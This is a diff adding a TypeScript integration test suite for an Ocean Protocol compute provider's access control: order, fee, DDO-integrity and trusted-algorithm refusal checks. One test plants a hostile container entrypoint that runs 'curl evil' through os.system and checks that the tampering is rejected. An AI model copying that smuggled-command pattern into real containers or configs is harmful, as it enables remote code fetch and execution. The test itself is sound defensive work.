@@ -1,0 +1,431 @@
+import { createHash, randomBytes } from 'node:crypto';
+import { createServer, type Server } from 'node:http';
+import { Contract, JsonRpcProvider, NonceManager, Wallet, ZeroAddress, hexlify, parseUnits, sha256, toUtf8Bytes } from 'ethers';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { deployOcean, oceanArtifact } from '../../devcluster/chain.ts';
+import {
+  algorithmDdo,
+  datasetDdo,
+  orderAsset,
+  publishAsset,
+  reuseOrder,
+  setAssetMetadata,
+  type Ddo as PublishDdo,
+  type PublishedAsset,
+} from '../../devcluster/ocean-assets.ts';
+import { encodeProviderData, signProviderFee, type ProviderFee } from '../../lib/chain/provider-fee.ts';
+import { containerSectionChecksum } from '../../lib/access/algo-checksums.ts';
+import { loadPublishedAlgorithm } from '../../lib/access/algorithm.ts';
+import type { ChainContext } from '../../lib/access/chain-context.ts';
+import { evaluateComputePolicy, findService, type PolicyContext } from '../../lib/access/compute-policy.ts';
+import { AccessDenied, ChainUnavailable } from '../../lib/access/errors.ts';
+import { checkFeePaid, feeTermsFor } from '../../lib/access/fees.ts';
+import { initializeCompute, issueProviderFee } from '../../lib/access/initialize.ts';
+import { verifyOrder, type OrderRequest } from '../../lib/access/order.ts';
+import { resolveDdo } from '../../lib/access/resolve-ddo.ts';
+import { createChainProvider } from '../../lib/access/rpc.ts';
+import { decryptServiceFiles } from '../../lib/access/service-files.ts';
+
+// Started once per run by test/support/platform-setup.ts: anvil with Ocean's contracts deployed.
+const env = inject('platform');
+const providerWallet = new Wallet(env.keys.provider);
+const consumer = new Wallet(env.keys.consumer);
+const other = new Wallet(env.keys.other);
+const publisher = new Wallet(env.keys.publisher);
+const PROVIDER_URL = 'http://127.0.0.1:8030';
+const IMAGE = { entrypoint: 'python $ALGO', image: 'python', tag: '3.12', checksum: 'sha256:' + 'ab'.repeat(32) };
+const ENV_ID = 'small';
+const environment = { id: ENV_ID, fees: [{ chainId: env.chainId, feeToken: env.ocean.Ocean!.toLowerCase(), pricePerMinute: parseUnits('0.01', 18).toString() }] };
+
+const rpcProvider = createChainProvider(env.rpcUrl, env.chainId);
+const chain: ChainContext = { provider: rpcProvider, chainId: env.chainId, factoryAddress: env.ocean.ERC721Factory! };
+const policy: PolicyContext = { providerUrls: [PROVIDER_URL], consumerAddress: consumer.address };
+const fileRules = { allowPrivateHosts: true };
+
+// The algorithm's code is served here, so the files checksum is computed from real downloads.
+const algoFiles = new Map<string, string>();
+let server: Server;
+let filesBase: string;
+
+beforeAll(async () => {
+  server = createServer((req, res) => {
+    const body = algoFiles.get(req.url ?? '');
+    res.writeHead(body === undefined ? 404 : 200, { 'content-type': 'text/plain' }).end(body ?? 'not found');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  filesBase = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
+});
+
+afterAll(async () => {
+  rpcProvider.destroy();
+  await new Promise<void>((resolve) => server.close(() => resolve()));
+});
+
+const now = () => Math.floor(Date.now() / 1000);
+const sha256hex = (s: string) => createHash('sha256').update(s).digest('hex');
+
+async function publishAlgorithm(code = 'print(42)', container = IMAGE): Promise<PublishedAsset> {
+  const path = `/algo-${randomBytes(6).toString('hex')}.py`;
+  algoFiles.set(path, code);
+  return publishAsset({
+    rpcUrl: env.rpcUrl,
+    ocean: env.ocean,
+    publisherKey: env.keys.publisher,
+    ddo: algorithmDdo({ name: 'algo', files: [{ type: 'url', url: filesBase + path, method: 'GET' }], serviceEndpoint: PROVIDER_URL, container }),
+    encryptFilesTo: providerWallet.signingKey.publicKey,
+    providerAddress: providerWallet.address,
+    mintTo: consumer.address,
+  });
+}
+
+function trustOf(algo: PublishedAsset, code = 'print(42)') {
+  return { did: algo.did, filesChecksum: sha256hex(code), containerSectionChecksum: containerSectionChecksum(IMAGE) };
+}
+
+async function publishDataset(
+  opts: { trusted?: PublishedAsset[]; endpoint?: string; timeout?: number; allowRawAlgorithm?: boolean; encryptDdo?: boolean; ocean?: Record<string, string> } = {},
+): Promise<PublishedAsset> {
+  return publishAsset({
+    rpcUrl: env.rpcUrl,
+    ocean: opts.ocean ?? env.ocean,
+    publisherKey: env.keys.publisher,
+    ddo: datasetDdo({
+      name: 'dataset',
+      files: [{ type: 'url', url: 'https://data.example/weather.csv', method: 'GET', headers: { Authorization: 'Bearer s3cr3t' } }],
+      serviceEndpoint: opts.endpoint ?? PROVIDER_URL,
+      timeout: opts.timeout ?? 3600,
+      compute: {
+        allowNetworkAccess: true,
+        allowRawAlgorithm: opts.allowRawAlgorithm ?? false,
+        publisherTrustedAlgorithms: (opts.trusted ?? []).map((a) => trustOf(a)),
+      },
+    }),
+    encryptFilesTo: providerWallet.signingKey.publicKey,
+    ...(opts.encryptDdo && { encryptDdoTo: providerWallet.signingKey.publicKey }),
+    providerAddress: providerWallet.address,
+    mintTo: consumer.address,
+  });
+}
+
+function freshFee(asset: PublishedAsset, o: { signer?: Wallet; environment?: string; validUntil?: number; charge?: boolean } = {}): ProviderFee {
+  const service = asset.ddo.services[0]!;
+  const t = now();
+  if (o.signer) {
+    return signProviderFee(o.signer, {
+      providerFeeToken: env.ocean.Ocean!,
+      providerFeeAmount: 0n,
+      providerData: encodeProviderData({ environment: o.environment ?? ENV_ID, timestamp: t, dt: service.datatokenAddress, id: service.id }),
+      validUntil: o.validUntil ?? t + 3600,
+    });
+  }
+  return issueProviderFee(providerWallet, {
+    environmentId: o.environment ?? ENV_ID,
+    datatoken: service.datatokenAddress,
+    serviceId: service.id,
+    terms: feeTermsFor(environment, env.chainId),
+    charge: o.charge ?? false,
+    validUntil: o.validUntil ?? t + 3600,
+    now: t,
+  });
+}
+
+function order(asset: PublishedAsset, fee: ProviderFee, o: { serviceIndex?: number; consumerKey?: string } = {}): Promise<string> {
+  return orderAsset({
+    rpcUrl: env.rpcUrl,
+    consumerKey: o.consumerKey ?? env.keys.consumer,
+    datatokenAddress: asset.datatokenAddresses[0]!,
+    serviceIndex: o.serviceIndex ?? 0,
+    providerFee: fee,
+  });
+}
+
+async function orderRequest(asset: PublishedAsset, txId: string, over: Partial<OrderRequest> = {}): Promise<OrderRequest> {
+  const { ddo } = await resolveDdo(chain, providerWallet.privateKey, asset.did);
+  return {
+    txId,
+    ddo,
+    service: findService(ddo, ddo.services[0]!.id),
+    consumerAddress: consumer.address,
+    providerAddress: providerWallet.address,
+    environmentId: ENV_ID,
+    jobDurationSeconds: 600,
+    field: 'dataset.transferTxId',
+    ...over,
+  };
+}
+
+async function refusal(promise: Promise<unknown>): Promise<AccessDenied> {
+  const err = await promise.then(
+    () => new Error('expected a refusal'),
+    (e: unknown) => e,
+  );
+  if (!(err instanceof AccessDenied)) throw err;
+  return err;
+}
+
+let algorithm: PublishedAsset;
+let dataset: PublishedAsset;
+
+describe('access control against the local chain', () => {
+  beforeAll(async () => {
+    algorithm = await publishAlgorithm();
+    dataset = await publishDataset({ trusted: [algorithm] });
+  });
+
+  it('runs publish → initializeCompute → order with those fees → every check of start', async () => {
+    const resolved = await resolveDdo(chain, providerWallet.privateKey, dataset.did);
+    expect(resolved.ddo).toMatchObject({ id: dataset.did, nftAddress: dataset.nftAddress, chainId: env.chainId });
+    expect(resolved.metaDataHash).toBe(sha256(toUtf8Bytes(resolved.document)));
+    const loaded = await loadPublishedAlgorithm(chain, providerWallet.privateKey, algorithm.did, 'access-0', policy, fileRules);
+    expect(loaded.facts.owner).toBe(publisher.address);
+    expect(loaded.facts.filesChecksum).toBe(sha256hex('print(42)'));
+
+    const permit = evaluateComputePolicy({ ...policy, datasets: [{ ddo: resolved.ddo, serviceId: 'compute-0' }], algorithm: loaded.facts });
+    expect(permit.trust).toEqual(['trusted-algorithm']);
+    expect(permit.allowNetworkAccess).toBe(true);
+    const ds = permit.datasets[0]!;
+    const algo = permit.algorithm.kind === 'published' ? permit.algorithm : undefined;
+    expect(algo).toBeDefined();
+
+    const validUntil = now() + 900;
+    const init = await initializeCompute(chain, providerWallet, {
+      datasets: [{ ddo: resolved.ddo, service: ds, field: 'datasets.0' }],
+      algorithm: { ddo: loaded.resolved.ddo, service: algo!, field: 'algorithm' },
+      environment,
+      validUntil,
+      consumerAddress: consumer.address,
+    });
+    const dsInit = init.datasets[0]!;
+    expect(dsInit.datatoken).toBe(dataset.datatokenAddresses[0]);
+    expect(BigInt(dsInit.providerFee!.providerFeeAmount)).toBe(parseUnits('0.15', 18));
+    expect(init.algorithm?.providerFee?.providerFeeAmount).toBe('0');
+
+    const datasetTx = await order(dataset, dsInit.providerFee!, { serviceIndex: ds.index });
+    const algoTx = await order(algorithm, init.algorithm!.providerFee!);
+    const base = { consumerAddress: consumer.address, providerAddress: providerWallet.address, environmentId: ENV_ID, jobDurationSeconds: 600 };
+    const dsProof = await verifyOrder(chain, { ...base, txId: datasetTx, ddo: resolved.ddo, service: ds });
+    const algoProof = await verifyOrder(chain, { ...base, txId: algoTx, ddo: loaded.resolved.ddo, service: algo! });
+    expect(dsProof).toMatchObject({ consumer: consumer.address, serviceIndex: ds.index, reused: false, amount: parseUnits('1', 18) });
+    expect(algoProof.providerFee.providerData).toMatchObject({ environment: ENV_ID, dt: algorithm.datatokenAddresses[0] });
+    checkFeePaid([dsProof.providerFee, algoProof.providerFee], feeTermsFor(environment, env.chainId));
+    expect(() => checkFeePaid([algoProof.providerFee], feeTermsFor(environment, env.chainId))).toThrow(
+      expect.objectContaining({ code: 'PROVIDER_FEE_NOT_PAID' }),
+    );
+    expect(decryptServiceFiles(providerWallet.privateKey, resolved.ddo, ds.service, fileRules)).toEqual([
+      { url: 'https://data.example/weather.csv', method: 'GET', headers: { Authorization: 'Bearer s3cr3t' } },
+    ]);
+
+    // Asking again with the order: it still covers the request.
+    const again = await initializeCompute(chain, providerWallet, {
+      datasets: [{ ddo: resolved.ddo, service: ds, transferTxId: datasetTx, field: 'datasets.0' }],
+      environment,
+      validUntil: validUntil - 60,
+      consumerAddress: consumer.address,
+    });
+    expect(again.datasets[0]).toEqual({ validOrder: datasetTx.toLowerCase() });
+  });
+
+  it('offers reuseOrder when the order holds but its fee does not cover the request, and accepts the reuse', async () => {
+    const asset = await publishDataset({ allowRawAlgorithm: true });
+    const tx = await order(asset, freshFee(asset, { validUntil: now() + 120 }));
+    const req = await orderRequest(asset, tx);
+    const init = await initializeCompute(chain, providerWallet, {
+      datasets: [{ ddo: req.ddo, service: req.service, transferTxId: tx, field: 'datasets.0' }],
+      environment,
+      validUntil: now() + 1800,
+      consumerAddress: consumer.address,
+    });
+    expect(init.datasets[0]?.validOrder).toBe(tx.toLowerCase());
+    expect(init.datasets[0]?.providerFee).toBeDefined();
+    const reuseTx = await reuseOrder({
+      rpcUrl: env.rpcUrl,
+      consumerKey: env.keys.consumer,
+      datatokenAddress: asset.datatokenAddresses[0]!,
+      orderTxId: tx,
+      providerFee: init.datasets[0]!.providerFee!,
+    });
+    const proof = await verifyOrder(chain, { ...req, txId: reuseTx, jobDurationSeconds: 1500 });
+    expect(proof).toMatchObject({ reused: true, orderTxId: tx.toLowerCase(), txId: reuseTx.toLowerCase() });
+  });
+
+  it('resolves a DDO published encrypted to this provider, and refuses one encrypted to another', async () => {
+    const asset = await publishDataset({ encryptDdo: true });
+    const resolved = await resolveDdo(chain, providerWallet.privateKey, asset.did);
+    expect(resolved.event.flags).toBe('0x02');
+    expect(resolved.ddo.id).toBe(asset.did);
+    expect((await refusal(resolveDdo(chain, other.privateKey, asset.did))).code).toBe('DDO_NOT_DECRYPTABLE');
+  });
+
+  describe('refuses the order', () => {
+    it('when another consumer placed it', async () => {
+      const tx = await order(dataset, freshFee(dataset));
+      const err = await refusal(verifyOrder(chain, await orderRequest(dataset, tx, { consumerAddress: other.address })));
+      expect(err.code).toBe('ORDER_WRONG_CONSUMER');
+    });
+
+    it('for another service index', async () => {
+      const tx = await order(dataset, freshFee(dataset), { serviceIndex: 3 });
+      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, tx)))).code).toBe('ORDER_WRONG_SERVICE_INDEX');
+    });
+
+    it('after the service timeout passed', async () => {
+      const asset = await publishDataset({ timeout: 1 });
+      const tx = await order(asset, freshFee(asset));
+      await new Promise((r) => setTimeout(r, 2_100));
+      expect((await refusal(verifyOrder(chain, await orderRequest(asset, tx)))).code).toBe('ORDER_EXPIRED');
+    });
+
+    it('of the datatoken of another asset', async () => {
+      const another = await publishDataset();
+      const tx = await order(another, freshFee(another));
+      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, tx)))).code).toBe('ORDER_WRONG_DATATOKEN');
+    });
+
+    it('of an NFT the known factory did not create', async () => {
+      const rogueOcean = await deployOcean(env.rpcUrl, env.keys.other);
+      const rogue = await publishDataset({ ocean: rogueOcean });
+      const err = await refusal(resolveDdo(chain, providerWallet.privateKey, rogue.did, { nftAddress: rogue.nftAddress }));
+      expect(err.code).toBe('NFT_NOT_FROM_FACTORY');
+      expect((await refusal(resolveDdo(chain, providerWallet.privateKey, rogue.did))).code).toBe('DDO_NOT_FOUND');
+      const tx = await order(rogue, freshFee(rogue));
+      const ddo = rogue.ddo as unknown as Parameters<typeof findService>[0];
+      const req = { ...(await orderRequest(dataset, tx)), ddo, service: findService(ddo, 'compute-0') };
+      expect((await refusal(verifyOrder(chain, req))).code).toBe('NFT_NOT_FROM_FACTORY');
+    });
+
+    it('whose fee another key signed', async () => {
+      const tx = await order(dataset, freshFee(dataset, { signer: other }));
+      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, tx)))).code).toBe('PROVIDER_FEE_WRONG_PROVIDER');
+    });
+
+    it('whose fee expires before the job would end', async () => {
+      const tx = await order(dataset, freshFee(dataset, { validUntil: now() + 60 }));
+      const err = await refusal(verifyOrder(chain, await orderRequest(dataset, tx, { jobDurationSeconds: 3600 })));
+      expect(err.code).toBe('PROVIDER_FEE_EXPIRED');
+    });
+
+    it('whose fee is for another environment', async () => {
+      const tx = await order(dataset, freshFee(dataset, { environment: 'large' }));
+      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, tx)))).code).toBe('PROVIDER_FEE_WRONG_ENVIRONMENT');
+    });
+
+    it('when the transaction reverted or is unknown', async () => {
+      const wallet = consumer.connect(new JsonRpcProvider(env.rpcUrl, undefined, { staticNetwork: true }));
+      const dt = new Contract(dataset.datatokenAddresses[0]!, oceanArtifact('ERC20Template').abi, wallet);
+      const badFee = { ...freshFee(dataset), validUntil: now() + 7200 }; // the signature no longer matches
+      const market = { consumeMarketFeeAddress: ZeroAddress, consumeMarketFeeToken: ZeroAddress, consumeMarketFeeAmount: 0 };
+      const sent = await dt.getFunction('startOrder').send(consumer.address, 0, badFee, market, { gasLimit: 1_000_000 });
+      await sent.wait().catch(() => undefined);
+      (wallet.provider as JsonRpcProvider).destroy();
+      expect((await rpcProvider.getTransactionReceipt(sent.hash))?.status).toBe(0);
+      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, sent.hash)))).code).toBe('ORDER_TX_REVERTED');
+      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, hexlify(randomBytes(32)))))).code).toBe('ORDER_TX_NOT_FOUND');
+      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, '0x1234')))).code).toBe('TX_ID_MALFORMED');
+    });
+  });
+
+  describe('refuses the DDO', () => {
+    it('when the document on chain does not match its hash (changed after publishing)', async () => {
+      const asset = await publishDataset();
+      const nft = new Contract(asset.nftAddress, oceanArtifact('ERC721Template').abi, new NonceManager(publisher.connect(rpcProvider)));
+      const original = toUtf8Bytes(JSON.stringify(asset.ddo));
+      const changed: PublishDdo = { ...asset.ddo, metadata: { ...asset.ddo.metadata, name: 'swapped' } };
+      const tx = await nft.getFunction('setMetaData').send(0, PROVIDER_URL, providerWallet.address, '0x00', toUtf8Bytes(JSON.stringify(changed)), sha256(original), []);
+      await tx.wait();
+      expect((await refusal(resolveDdo(chain, providerWallet.privateKey, asset.did))).code).toBe('DDO_HASH_MISMATCH');
+    });
+
+    it('when a cached copy differs from the chain', async () => {
+      const tampered = { ...dataset.ddo, metadata: { ...dataset.ddo.metadata, name: 'cached-but-changed' } };
+      const err = await refusal(resolveDdo(chain, providerWallet.privateKey, dataset.did, { cached: tampered as unknown as Record<string, unknown> }));
+      expect(err.code).toBe('DDO_CACHE_HASH_MISMATCH');
+      const ok = await resolveDdo(chain, providerWallet.privateKey, dataset.did, { cached: { ...dataset.ddo, nft: { state: 0 } } as unknown as Record<string, unknown> });
+      expect(ok.ddo.id).toBe(dataset.did);
+    });
+
+    it('when the asset is deprecated or revoked', async () => {
+      const asset = await publishDataset();
+      const nft = new Contract(asset.nftAddress, oceanArtifact('ERC721Template').abi, new NonceManager(publisher.connect(rpcProvider)));
+      await (await nft.getFunction('setMetaDataState').send(2)).wait();
+      expect((await refusal(resolveDdo(chain, providerWallet.privateKey, asset.did))).code).toBe('DDO_STATE_DEPRECATED');
+      await (await nft.getFunction('setMetaDataState').send(3)).wait();
+      expect((await refusal(resolveDdo(chain, providerWallet.privateKey, asset.did))).code).toBe('DDO_STATE_REVOKED');
+    });
+  });
+
+  describe('refuses the algorithm', () => {
+    async function permitFor(algo: PublishedAsset, datasetAsset = dataset) {
+      const { ddo } = await resolveDdo(chain, providerWallet.privateKey, datasetAsset.did);
+      const loaded = await loadPublishedAlgorithm(chain, providerWallet.privateKey, algo.did, 'access-0', policy, fileRules);
+      return evaluateComputePolicy({ ...policy, datasets: [{ ddo, serviceId: 'compute-0' }], algorithm: loaded.facts });
+    }
+    const code = async (p: Promise<unknown>) => (await refusal(p)).code;
+
+    it('when it is not trusted', async () => {
+      expect(await code(permitFor(await publishAlgorithm('print("untrusted")')))).toBe('ALGORITHM_NOT_TRUSTED');
+    });
+
+    it('when its files changed after trust was given', async () => {
+      const algo = await publishAlgorithm('print("v1")');
+      const ds = await publishAsset({
+        rpcUrl: env.rpcUrl,
+        ocean: env.ocean,
+        publisherKey: env.keys.publisher,
+        ddo: datasetDdo({
+          name: 'pins v1',
+          files: [{ type: 'url', url: 'https://data.example/x.csv', method: 'GET' }],
+          serviceEndpoint: PROVIDER_URL,
+          compute: { publisherTrustedAlgorithms: [trustOf(algo, 'print("v1")')] },
+        }),
+        encryptFilesTo: providerWallet.signingKey.publicKey,
+        providerAddress: providerWallet.address,
+      });
+      expect((await permitFor(algo, ds)).trust).toEqual(['trusted-algorithm']);
+      for (const [path, body] of algoFiles) if (body === 'print("v1")') algoFiles.set(path, 'print("v2")');
+      expect(await code(permitFor(algo, ds))).toBe('ALGORITHM_FILES_CHANGED');
+    });
+
+    it('when its container changed after trust was given', async () => {
+      const algo = await publishAlgorithm();
+      const ds = await publishDataset({ trusted: [algo] });
+      const changed: PublishDdo = structuredClone(algo.ddo);
+      changed.metadata.algorithm!.container.entrypoint = 'python -c "import os; os.system(\'curl evil\')" $ALGO';
+      await setAssetMetadata({
+        rpcUrl: env.rpcUrl,
+        publisherKey: env.keys.publisher,
+        nftAddress: algo.nftAddress,
+        ddo: changed,
+        providerUrl: PROVIDER_URL,
+        providerAddress: providerWallet.address,
+      });
+      expect(await code(permitFor(algo, ds))).toBe('ALGORITHM_CONTAINER_CHANGED');
+    });
+
+    it('when it is raw and the dataset does not allow raw algorithms', async () => {
+      const { ddo } = await resolveDdo(chain, providerWallet.privateKey, dataset.did);
+      const raw = { kind: 'raw' as const, rawcode: 'print(1)', container: IMAGE };
+      expect(() => evaluateComputePolicy({ ...policy, datasets: [{ ddo, serviceId: 'compute-0' }], algorithm: raw })).toThrow(
+        expect.objectContaining({ code: 'RAW_ALGORITHM_NOT_ALLOWED' }),
+      );
+    });
+  });
+
+  it('refuses a service whose endpoint is another provider', async () => {
+    const elsewhere = await publishDataset({ trusted: [algorithm], endpoint: 'https://provider.other.example' });
+    const { ddo } = await resolveDdo(chain, providerWallet.privateKey, elsewhere.did);
+    const loaded = await loadPublishedAlgorithm(chain, providerWallet.privateKey, algorithm.did, 'access-0', policy, fileRules);
+    expect(() => evaluateComputePolicy({ ...policy, datasets: [{ ddo, serviceId: 'compute-0' }], algorithm: loaded.facts })).toThrow(
+      expect.objectContaining({ code: 'SERVICE_ENDPOINT_NOT_OURS' }),
+    );
+  });
+
+  it('answers ChainUnavailable, not a hang, when the RPC is down', async () => {
+    const dead = createChainProvider('http://127.0.0.1:9', env.chainId);
+    try {
+      const err = await resolveDdo({ ...chain, provider: dead, rpcTimeoutMs: 2_000 }, providerWallet.privateKey, dataset.did).catch((e: unknown) => e);
+      expect(err).toBeInstanceOf(ChainUnavailable);
+    } finally {
+      dead.destroy();
+    }
+  });
+});
